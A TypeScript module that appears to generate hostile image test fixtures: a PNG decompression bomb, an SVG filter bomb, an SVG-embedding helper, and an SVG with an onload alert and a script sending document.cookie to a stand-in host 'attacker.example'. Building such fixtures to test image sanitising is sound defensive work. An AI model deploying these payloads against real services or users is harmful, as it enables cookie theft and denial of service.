import { crc32, deflateSync } from "node:zlib";

/** One PNG chunk: length, type, data, CRC. */
export function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body) >>> 0);
  return Buffer.concat([length, body, crc]);
}

/** A PNG of a few hundred bytes whose header declares width × height pixels: a decompression bomb. */
export function pixelBombPng(width = 100_000, height = 100_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8-bit RGB, no interlace
  const rows = deflateSync(Buffer.alloc(64)); // far fewer rows than declared
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", header),
    pngChunk("IDAT", rows),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

export const scriptedSvg = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">` +
    `<script>fetch('https://attacker.example/'+document.cookie)</script>` +
    `<rect width="100" height="100" fill="red"/></svg>`,
);

/** An SVG of `size` px whose `<image>` embeds `raster` as a base64 data: URI (xlink or plain href). */
export function svgEmbedding(raster: Buffer, options: { size?: number; xlink?: boolean; mime?: string } = {}): Buffer {
  const size = options.size ?? 100;
  const attribute = options.xlink ? "xlink:href" : "href";
  const uri = `data:${options.mime ?? "image/png"};base64,${raster.toString("base64")}`;
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="${size}" height="${size}">` +
      `<image ${attribute}="${uri}" width="${size}" height="${size}"/></svg>`,
  );
}

/** Tiny file, huge work: turbulence blurred by a deviation of 500 over a canvas of `size`² px. */
export function filterBombSvg(size = 7000, octaves = 4): Buffer {
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="${size}" height="${size}"><filter id="f">` +
      `<feTurbulence baseFrequency="0.9" numOctaves="${octaves}"/><feGaussianBlur stdDeviation="500"/></filter>` +
      `<rect width="100%" height="100%" filter="url(#f)"/></svg>`,
  );
}
